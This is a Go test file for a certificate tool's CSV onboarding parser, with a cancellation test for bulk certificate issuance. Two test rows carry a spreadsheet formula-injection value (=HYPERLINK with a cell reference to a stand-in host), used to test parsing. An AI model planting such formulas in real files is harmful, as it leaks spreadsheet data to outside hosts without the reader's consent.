package onboard

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"certdesk/core/pki"
	"certdesk/core/vault"
)

func TestParseCSV(t *testing.T) {
	tests := []struct {
		name, csv string
		wantRows  int
		wantErrs  map[int]string // line → error text
		wantFail  string
	}{
		{"header and rows", "name,email\nAnn,ann@x.test\nBen,ben@x.test,Org,Unit,30\n", 2, nil, ""},
		{"no header", "Ann,ann@x.test\n\nBen,\n", 2, nil, ""},
		{"bad rows stay reported", "Ann\nBen,b@x.test,O,U,D,E\n,c@x.test\nDee,d@x.test,,,soon\n", 4,
			map[int]string{1: "got 1 field", 2: "got 6 field", 3: "name is empty", 4: "not a number"}, ""},
		{"duplicate", "Ann,a@x.test\nann,A@x.test\n", 2, map[int]string{2: "same person as line 1"}, ""},
		{"empty", "name,email\n", 0, nil, "holds no people"},
		{"not CSV", "a,\"b\nc", 0, nil, "not a CSV file: line 1"},
		{"bare quote", "name,email\nAnn,a@x.test\n=HYPERLINK(\"http://x/\"&A2),a@example.com\n", 0, nil, "not a CSV file: line 3"},
		{"formula names are people too", "\"=HYPERLINK(\"\"http://x/\"\"&A2)\",a@example.com\n+1,b@x.test\n", 2, nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rows, err := ParseCSV(strings.NewReader(tt.csv), pki.DefaultKeyType)
			if tt.wantFail != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantFail) {
					t.Fatalf("error %v, want %q", err, tt.wantFail)
				}
				return
			}
			if err != nil || len(rows) != tt.wantRows {
				t.Fatalf("%d rows, %v", len(rows), err)
			}
			for _, r := range rows {
				want, bad := tt.wantErrs[r.Line]
				if bad != (r.Err != nil) || (bad && !strings.Contains(r.Err.Error(), want)) {
					t.Errorf("line %d: error %v, want %q", r.Line, r.Err, want)
				}
			}
		})
	}
}

// TestCancel cancels while keys are signed: nothing is stored and no
// password sheet is left behind.
func TestCancel(t *testing.T) {
	ctx := context.Background()
	v, err := vault.Create(filepath.Join(t.TempDir(), "v.db"), nil, vault.CreateOptions{Insecure: true})
	if err != nil {
		t.Fatal(err)
	}
	defer v.Close()
	ca, err := v.CreateCA(ctx, "Team", pki.CARequest{Name: pki.Name{CommonName: "Team"}})
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for i := range 200 {
		b.WriteString("Person " + string(rune('A'+i%26)) + strings.Repeat("x", i/26) + ",\n")
	}
	rows, err := ParseCSV(strings.NewReader(b.String()), pki.RSA2048)
	if err != nil {
		t.Fatal(err)
	}
	cctx, cancel := context.WithCancel(ctx)
	out := filepath.Join(t.TempDir(), "out")
	_, err = Run(cctx, v, ca, rows, Options{OutDir: out, Progress: func(stage string, done, total int) {
		if done == 3 {
			cancel()
		}
	}})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled run: %v", err)
	}
	if n, _ := v.Count(ctx, vault.Filter{Kind: vault.KindClient}); n != 0 {
		t.Errorf("%d certificates stored after a cancel", n)
	}
	if _, err := os.Stat(filepath.Join(out, SheetName)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the password sheet was left behind: %v", err)
	}
}
